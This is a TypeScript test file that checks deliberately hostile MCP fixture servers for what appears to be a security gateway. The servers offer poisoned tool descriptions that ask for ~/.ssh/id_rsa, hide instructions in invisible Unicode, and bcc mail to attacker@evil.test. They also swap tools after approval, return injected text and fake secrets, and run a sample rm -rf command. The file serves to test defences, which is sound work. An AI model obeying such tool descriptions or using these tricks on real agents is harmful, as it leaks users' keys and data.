// The fixture servers behave as documented in test/fixtures/README.md when driven directly by the SDK
// Client, so a later gateway test failure is not a fixture bug.
import { spawn } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import { SSEClientTransport } from '@modelcontextprotocol/sdk/client/sse.js';
import {
  CreateMessageRequestSchema,
  ElicitRequestSchema,
  ListRootsRequestSchema,
  ToolListChangedNotificationSchema,
} from '@modelcontextprotocol/sdk/types.js';
import { fixturePath, startHttpFixture, stdioParams, type HttpFixture } from './fixtures/harness.mjs';
import { HIDDEN_TAG_INSTRUCTION, INJECTION, PII, POISON, SECRETS } from './fixtures/_data.mjs';

type CallResult = {
  content?: Array<{ type: string; text?: string }>;
  structuredContent?: Record<string, unknown>;
  isError?: boolean;
};

const cleanups: Array<() => Promise<unknown> | unknown> = [];
afterAll(async () => {
  await Promise.allSettled(cleanups.map((c) => c()));
});

const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'portcullis-fixtures-'));
cleanups.push(() => fs.rmSync(tmp, { recursive: true, force: true }));

async function stdioClient(
  name: string,
  args: string[] = [],
  capabilities: Record<string, unknown> = {},
): Promise<{ client: Client; transport: StdioClientTransport }> {
  const transport = new StdioClientTransport(stdioParams(name, args));
  const client = new Client({ name: 'fixtures-test', version: '0.0.0' }, { capabilities });
  await client.connect(transport);
  cleanups.push(() => client.close());
  return { client, transport };
}

async function http(name: string, args: string[] = []): Promise<HttpFixture> {
  const f = await startHttpFixture(name, args);
  cleanups.push(() => f.close());
  return f;
}

const textOf = (r: unknown) =>
  ((r as CallResult).content ?? []).map((c) => c.text ?? '').join('');
const call = async (client: Client, name: string, args: Record<string, unknown> = {}) =>
  (await client.callTool({ name, arguments: args })) as CallResult;

describe('crash.mjs', () => {
  it('exit-on-start: the process dies before initialize completes', async () => {
    const transport = new StdioClientTransport(stdioParams('crash', ['exit-on-start']));
    const client = new Client({ name: 't', version: '0' });
    await expect(client.connect(transport)).rejects.toThrow();
    await client.close().catch(() => {});
  });

  it('ok echoes; crash kills the process with the call in flight', async () => {
    const { client } = await stdioClient('crash');
    expect(textOf(await call(client, 'ok', { text: 'hi' }))).toBe('ok: hi');
    const closed = new Promise<void>((r) => (client.onclose = () => r()));
    await expect(call(client, 'crash')).rejects.toThrow(/closed/i);
    await closed;
  });

  it('--crash-after 2 answers two calls, then exits', async () => {
    const { client } = await stdioClient('crash', ['--crash-after', '2']);
    const closed = new Promise<void>((r) => (client.onclose = () => r()));
    const first = await call(client, 'pid');
    expect(first.structuredContent).toMatchObject({ answered: 1 });
    expect(textOf(await call(client, 'ok', { text: 'x' }))).toBe('ok: x');
    await closed;
  });
});

describe('hang.mjs', () => {
  it('slow reports progress; hang is cancelled and the cancellation is recorded', async () => {
    const { client } = await stdioClient('hang');
    const progress: number[] = [];
    const r = await client.callTool({ name: 'slow', arguments: { ms: 100, steps: 4 } }, undefined, {
      onprogress: (p) => progress.push(p.progress),
    });
    expect(textOf(r)).toBe('slept 100ms');
    expect(progress).toEqual([0, 1, 2, 3]);

    const ac = new AbortController();
    const pending = client.callTool({ name: 'hang', arguments: {} }, undefined, { signal: ac.signal });
    await new Promise((res) => setTimeout(res, 100));
    ac.abort('test gave up');
    await expect(pending).rejects.toThrow();

    let cancelled: Array<{ requestId: unknown; reason: unknown; inFlight: boolean }> = [];
    // up to 5 s: on a loaded machine the cancellation can take a while to be recorded
    for (let i = 0; i < 100 && cancelled.length === 0; i++) {
      cancelled = (await call(client, 'cancelled_ids')).structuredContent!.cancelled as typeof cancelled;
      if (!cancelled.length) await new Promise((res) => setTimeout(res, 50));
    }
    expect(cancelled).toHaveLength(1);
    expect(cancelled[0]).toMatchObject({ inFlight: true });
    const calls = (await call(client, 'calls')).structuredContent!.calls as Array<{ requestId: unknown; tool: string }>;
    expect(calls.find((c) => c.tool === 'hang')?.requestId).toEqual(cancelled[0]!.requestId);
  });
});

describe('garbage.mjs', () => {
  it('answers correctly between garbage lines; oversized returns the size asked', async () => {
    const { client } = await stdioClient('garbage');
    expect(textOf(await call(client, 'garbage', { lines: 7 }))).toBe('clean answer after garbage');
    expect(textOf(await call(client, 'oversized', { bytes: 100_000 }))).toHaveLength(100_000);
    expect(textOf(await call(client, 'flood', { bytes: 200_000, newline: true }))).toBe('flooded 200000');
    expect(textOf(await call(client, 'echo', { text: 'still alive' }))).toBe('still alive');
  });

  it('stdout really carries non-JSON lines, and flood writes 20 MB without a newline', async () => {
    const child = spawn(process.execPath, [fixturePath('garbage')], { stdio: ['pipe', 'pipe', 'ignore'] });
    cleanups.push(() => child.kill('SIGKILL'));
    const send = (m: unknown) => child.stdin.write(JSON.stringify(m) + '\n');
    const head: Buffer[] = []; // everything up to and including the last newline seen
    let sinceNewline = 0; // bytes after the last newline
    const target = 20 * 1024 * 1024;
    const done = new Promise<void>((resolve) => {
      child.stdout.on('data', (d: Buffer) => {
        const nl = d.lastIndexOf(10);
        if (nl >= 0) {
          head.push(d.subarray(0, nl + 1));
          sinceNewline = d.length - nl - 1;
        } else {
          sinceNewline += d.length;
        }
        if (sinceNewline >= target) resolve();
      });
    });
    send({ jsonrpc: '2.0', id: 1, method: 'initialize', params: { protocolVersion: '2025-06-18', capabilities: {}, clientInfo: { name: 'raw', version: '0' } } });
    // Like a real client, wait for the initialize answer before going on.
    await new Promise<void>((resolve) => {
      const check = () => (Buffer.concat(head).includes('"id":1}') ? resolve() : setTimeout(check, 10));
      check();
    });
    send({ jsonrpc: '2.0', method: 'notifications/initialized' });
    send({ jsonrpc: '2.0', id: 2, method: 'tools/call', params: { name: 'flood', arguments: {} } });
    await done;
    const lines = Buffer.concat(head).toString('utf8').split('\n').slice(0, -1);
    const notJson = lines.filter((l) => {
      try {
        JSON.parse(l);
        return false;
      } catch {
        return true;
      }
    });
    expect(notJson.length).toBeGreaterThanOrEqual(2); // banner + noise
    expect(lines.some((l) => l.includes('"id":1') && l.includes('serverInfo'))).toBe(true);
    expect(sinceNewline).toBeGreaterThanOrEqual(target);
    child.kill('SIGKILL');
  });
});

describe('poisoned.mjs', () => {
  it('lists the poisoned definitions verbatim', async () => {
    const { client } = await stdioClient('poisoned');
    const { tools } = await client.listTools();
    const byName = Object.fromEntries(tools.map((t) => [t.name, t]));
    expect(byName.add!.description).toBe(POISON.sshKeyExfil);
    expect(byName.add!.description).toContain('~/.ssh/id_rsa');
    const invisible = byName.get_weather!.description!;
    expect(invisible).toMatch(/[\u{E0000}-\u{E007F}]/u);
    expect(invisible).toContain('\u200b');
    const decoded = [...invisible]
      .filter((c) => c.codePointAt(0)! >= 0xe0000 && c.codePointAt(0)! <= 0xe007f)
      .map((c) => String.fromCharCode(c.codePointAt(0)! - 0xe0000))
      .join('');
    expect(decoded).toBe(HIDDEN_TAG_INSTRUCTION);
    expect(byName.fact_of_the_day!.description).toContain('attacker@evil.test');
    expect(byName.fact_of_the_day!.description).toContain('send_email');
    const notes = (byName.summarize!.inputSchema.properties as Record<string, { description: string }>).notes!;
    expect(notes.description).toBe(POISON.paramDescription);
    expect(byName.list_files!.description).toContain('\u001b[8m');
    expect(byName.echo!.description).toBe('Echo the given text back.');
    expect(textOf(await call(client, 'add', { a: 2, b: 3 }))).toBe('5');
  });
});

describe('--page-size (any fixture)', () => {
  it('paginates tools/list', async () => {
    const { client } = await stdioClient('poisoned', ['--page-size', '4']);
    const first = await client.listTools();
    expect(first.tools).toHaveLength(4);
    expect(first.nextCursor).toBeTruthy();
    const second = await client.listTools({ cursor: first.nextCursor });
    expect(second.tools.map((t) => t.name)).toEqual(['list_files', 'echo']);
    expect(second.nextCursor).toBeUndefined();
  });
});

describe('rugpull.mjs', () => {
  it('change mode: flips after the first listing and says so', async () => {
    const { client } = await stdioClient('rugpull');
    const changed = new Promise<void>((r) => client.setNotificationHandler(ToolListChangedNotificationSchema, () => r()));
    const before = (await client.listTools()).tools.find((t) => t.name === 'get_weather')!;
    expect(before.description).toBe('Returns the current weather for a city.');
    await changed;
    const after = (await client.listTools()).tools.find((t) => t.name === 'get_weather')!;
    expect(after.description).toContain('~/.ssh/id_rsa');
    expect(Object.keys(after.inputSchema.properties ?? {})).toContain('sidenote');
  });

  it('rename mode with a state file: flips when the test says so', async () => {
    const state = path.join(tmp, 'rug-state');
    const { client } = await stdioClient('rugpull', ['--mode', 'rename', '--state', state]);
    const names = async () => (await client.listTools()).tools.map((t) => t.name).sort();
    expect(await names()).toEqual(['echo', 'get_weather', 'rug_state']);
    expect(await names()).toEqual(['echo', 'get_weather', 'rug_state']); // no flip without the file
    const changed = new Promise<void>((r) => client.setNotificationHandler(ToolListChangedNotificationSchema, () => r()));
    fs.writeFileSync(state, 'flipped');
    await changed;
    const { tools } = await client.listTools();
    expect(tools.map((t) => t.name).sort()).toEqual(['echo', 'rug_state', 'weather_lookup']);
    expect(tools.find((t) => t.name === 'weather_lookup')!.description).toContain('<IMPORTANT>');
  });
});

describe('injector.mjs', () => {
  it('results carry injection, secrets and PII; egress tools record what they were asked', async () => {
    const record = path.join(tmp, 'injector.jsonl');
    const { client } = await stdioClient('injector', ['--record', record]);
    const { tools } = await client.listTools();
    expect(tools.find((t) => t.name === 'fetch_url')!.annotations?.openWorldHint).toBe(true);

    const page = await call(client, 'fetch_url', { url: 'https://example.com/' });
    expect(textOf(page)).toContain(INJECTION.instruction);
    expect(JSON.stringify(page.structuredContent)).toContain(INJECTION.instruction);

    const secrets = await call(client, 'leak_secrets');
    for (const s of Object.values(SECRETS)) {
      expect(textOf(secrets)).toContain(s);
      expect(Object.values(secrets.structuredContent!)).toContain(s);
    }
    expect(SECRETS.awsAccessKeyId).toMatch(/^AKIA[A-Z0-9]{16}$/);
    expect(SECRETS.awsSecretAccessKey).toHaveLength(40);
    expect(SECRETS.githubToken).toMatch(/^ghp_[A-Za-z0-9]{36}$/);

    const pii = await call(client, 'leak_pii');
    for (const v of [PII.email, PII.phone, PII.cardNumber, PII.iban]) {
      expect(textOf(pii)).toContain(v);
      expect(JSON.stringify(pii.structuredContent)).toContain(v);
    }
    expect(JSON.stringify((await call(client, 'injection_structured')).structuredContent)).toContain(INJECTION.instruction);
    expect(textOf(await call(client, 'read_private'))).toContain(PII.email);

    await call(client, 'send_email', { to: 'bob@example.com', body: 'hello', bcc: 'attacker@evil.test' });
    expect(textOf(await call(client, 'run_command', { command: 'rm -rf /tmp/nothing' }))).toBe('ran: rm -rf /tmp/nothing');
    const sent = (await call(client, 'sent')).structuredContent!;
    expect(sent.emails).toEqual([expect.objectContaining({ to: 'bob@example.com', bcc: 'attacker@evil.test' })]);
    expect(sent.commands).toEqual([{ command: 'rm -rf /tmp/nothing' }]);
    const lines = fs.readFileSync(record, 'utf8').trim().split('\n').map((l) => JSON.parse(l));
    expect(lines.map((l) => l.kind)).toEqual(['email', 'command']);
  });
});

describe('headers.mjs', () => {
  it('records the headers of every Streamable HTTP request', async () => {
    const f = await http('headers');
    const client = new Client({ name: 't', version: '0' });
    await client.connect(
      new StreamableHTTPClientTransport(new URL(f.url), {
        requestInit: { headers: { Authorization: 'Bearer client-secret-token', 'X-Probe': 'yes' } },
      }),
    );
    cleanups.push(() => client.close());
    const r = await call(client, 'received_headers');
    const requests = r.structuredContent!.requests as Array<{ method: string; path: string; headers: Record<string, string> }>;
    expect(requests.length).toBeGreaterThanOrEqual(2);
    expect(requests.every((q) => q.headers.authorization === 'Bearer client-secret-token')).toBe(true);
    expect(requests[0]!.headers['x-probe']).toBe('yes');
    const who = await call(client, 'whoami');
    expect((who.structuredContent!.headers as Record<string, string>).authorization).toBe('Bearer client-secret-token');
  });

  it('--sse serves the legacy transport; --require-bearer rejects other callers', async () => {
    const f = await http('headers', ['--sse', '--require-bearer', 'upstream-token']);
    const denied = await fetch(f.url, {
      method: 'POST',
      headers: { 'content-type': 'application/json', accept: 'application/json, text/event-stream' },
      body: '{}',
    });
    expect(denied.status).toBe(401);
    const client = new Client({ name: 't', version: '0' });
    const auth = { Authorization: 'Bearer upstream-token' };
    await client.connect(
      new SSEClientTransport(new URL(`${f.baseUrl}/sse`), {
        requestInit: { headers: auth },
        eventSourceInit: { fetch: (u, init) => fetch(u, { ...init, headers: { ...(init?.headers as Record<string, string>), ...auth } }) },
      }),
    );
    cleanups.push(() => client.close());
    const requests = (await call(client, 'received_headers')).structuredContent!.requests as Array<{ method: string; path: string }>;
    expect(requests.some((q) => q.method === 'GET' && q.path === '/sse')).toBe(true);
    expect(requests.some((q) => q.method === 'POST' && q.path.startsWith('/messages'))).toBe(true);
    expect(requests.some((q) => q.method === 'POST' && q.path === '/mcp')).toBe(true); // the denied one
  });
});

describe('sampler.mjs', () => {
  const capabilities = { sampling: {}, elicitation: { form: {} }, roots: { listChanged: true } };
  function handle(client: Client) {
    client.setRequestHandler(CreateMessageRequestSchema, async (req) => ({
      role: 'assistant',
      content: { type: 'text', text: `echo: ${(req.params.messages[0]!.content as { text: string }).text}` },
      model: 'test-model',
      stopReason: 'endTurn',
    }));
    client.setRequestHandler(ElicitRequestSchema, async () => ({ action: 'accept', content: { name: 'Ada', age: 36 } }));
    client.setRequestHandler(ListRootsRequestSchema, async () => ({ roots: [{ uri: 'file:///work', name: 'work' }] }));
  }
  const expectAll = (r: CallResult) =>
    expect(r.structuredContent).toMatchObject({
      sampling: { model: 'test-model', content: { text: 'echo: ping' } },
      elicitation: { action: 'accept', content: { name: 'Ada', age: 36 } },
      roots: { roots: [{ uri: 'file:///work' }] },
    });

  it('relays sampling, elicitation and roots over stdio', async () => {
    const transport = new StdioClientTransport(stdioParams('sampler'));
    const client = new Client({ name: 't', version: '0' }, { capabilities });
    handle(client);
    await client.connect(transport);
    cleanups.push(() => client.close());
    expectAll(await call(client, 'ask_all', { prompt: 'ping' }));
    await client.sendRootsListChanged();
    await new Promise((r) => setTimeout(r, 50));
    expect((await call(client, 'roots_changed')).structuredContent).toEqual({ count: 1 });
  });

  it('relays them over Streamable HTTP too', async () => {
    const f = await http('sampler');
    const client = new Client({ name: 't', version: '0' }, { capabilities });
    handle(client);
    await client.connect(new StreamableHTTPClientTransport(new URL(f.url)));
    cleanups.push(() => client.close());
    expectAll(await call(client, 'ask_all', { prompt: 'ping' }));
  });

  it('reports a client without sampling as an error value, not a failed call', async () => {
    const { client } = await stdioClient('sampler');
    const r = await call(client, 'sample');
    expect(r.isError).toBeFalsy();
    expect(r.structuredContent!.sampling).toHaveProperty('error');
  });
});

describe('conformant.mjs', () => {
  it('serves the conformance tools, resources and prompts, and rejects DNS rebinding', async () => {
    const f = await http('conformant');
    const client = new Client({ name: 't', version: '0' });
    await client.connect(new StreamableHTTPClientTransport(new URL(f.url)));
    cleanups.push(() => client.close());
    const names = (await client.listTools()).tools.map((t) => t.name);
    expect(names).toEqual(expect.arrayContaining(['test_simple_text', 'test_tool_with_progress', 'json_schema_2020_12_tool']));
    expect(textOf(await call(client, 'test_simple_text'))).toBe('This is a simple text response for testing.');
    expect((await call(client, 'test_error_handling')).isError).toBe(true);
    const tpl = await client.readResource({ uri: 'test://template/123/data' });
    expect(JSON.stringify(tpl.contents)).toContain('123');
    const p = await client.getPrompt({ name: 'test_prompt_with_arguments', arguments: { arg1: 'A1', arg2: 'B2' } });
    expect(JSON.stringify(p.messages)).toContain('A1');

    const init = JSON.stringify({
      jsonrpc: '2.0',
      id: 1,
      method: 'initialize',
      params: { protocolVersion: '2025-11-25', capabilities: {}, clientInfo: { name: 'dns', version: '0' } },
    });
    const headers = { 'content-type': 'application/json', accept: 'application/json, text/event-stream' };
    const evil = await fetch(f.url, { method: 'POST', headers: { ...headers, origin: 'http://evil.example.com' }, body: init });
    expect(evil.status).toBe(403);
    const good = await fetch(f.url, { method: 'POST', headers: { ...headers, origin: `http://127.0.0.1:${f.port}` }, body: init });
    expect(good.status).toBe(200);
  });
});
